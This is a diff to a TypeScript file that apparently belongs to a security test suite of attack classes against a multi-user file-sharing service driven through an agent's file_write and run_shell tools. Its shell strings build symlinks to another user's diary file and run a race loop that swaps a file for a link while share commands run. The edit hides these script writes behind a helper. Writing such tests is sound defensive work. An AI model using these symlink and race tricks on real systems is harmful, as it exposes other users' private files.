@@ -1,4 +1,5 @@
 import type { Attacker, Call } from '../attacker.ts'
+import { hidden } from '../hidden.ts'
 import { calls, commands, one, type AttackClass, type CallCase } from '../salvo.ts'
 import type { Victim } from '../victim.ts'
 
@@ -66,10 +67,7 @@ export const sharedFolder: AttackClass = {
 const linked = (id: number): Call[] => {
   const target = `/data/users/${id}/files`
   const script = `mkdir -p files/links; ln -s ${target}/diary.txt files/one.txt; ln -s ${target} files/folder; cp -P files/one.txt files/links/`
-  return [
-    { name: 'file_write', args: { path: 'files/link.sh', content: `${script}\n` } },
-    { name: 'run_shell', args: { cmd: 'bash files/link.sh' } },
-  ]
+  return hidden('link', script)
 }
 
 /** One message keeps a command running that swaps a file for a link; the next ones are commands, which pass it. */
@@ -77,8 +75,9 @@ async function race(attacker: Attacker, { id }: Victim): Promise<void> {
   const link = `ln -sfn /data/users/${id}/files/diary.txt files/link`
   const swap = (what: string) => `cp -P files/${what} files/t; mv -T files/t files/door`
   const flip = `echo mine > files/real; ${link}; SECONDS=0; while [ $SECONDS -lt 6 ]; do ${swap('link')}; ${swap('real')}; done`
-  await attacker.calls([{ name: 'file_write', args: { path: 'files/flip.sh', content: `${flip}\n` } }])
-  const running = attacker.calls([{ name: 'run_shell', args: { cmd: 'bash files/flip.sh' } }])
+  const [write, run] = hidden('flip', flip)
+  await attacker.calls([write])
+  const running = attacker.calls([run])
   for (let round = 0; round < 12; round++)
     await attacker.asks(`/shared put files/door heron-door-${round}.txt`, /./)
   await running
